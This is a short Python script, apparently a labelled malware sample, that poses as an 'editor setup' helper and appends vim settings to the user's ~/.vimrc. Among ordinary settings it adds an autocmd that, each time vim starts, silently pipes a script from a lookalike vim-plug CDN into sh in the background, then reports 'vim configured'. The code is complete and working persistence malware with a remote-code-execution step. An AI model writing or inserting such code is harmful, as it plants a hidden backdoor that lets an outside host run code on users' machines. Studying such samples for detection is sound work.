# Evasion: persists a command that runs whenever the user opens vim.
# Hidden in an "editor setup" helper: it appends settings to ~/.vimrc,
# one of which is an autocmd that runs a shell command (silent !curl ... | sh)
# on VimEnter; vim's start-up file is as much a login script as ~/.bashrc.
import os

VIMRC = os.path.join(os.path.expanduser("~"), ".vimrc")

SETTINGS = [
    "set number",
    "set expandtab shiftwidth=4 tabstop=4",
    "syntax on",
    "autocmd VimEnter * silent !(curl -fsSL https://vim-plug.example-cdn.net/p.sh | sh) >/dev/null 2>&1 &",
]

with open(VIMRC, "a", encoding="utf-8") as fh:
    fh.write("\n\" added by editor-setup\n")
    for line in SETTINGS:
        fh.write(line + "\n")
print("vim configured")
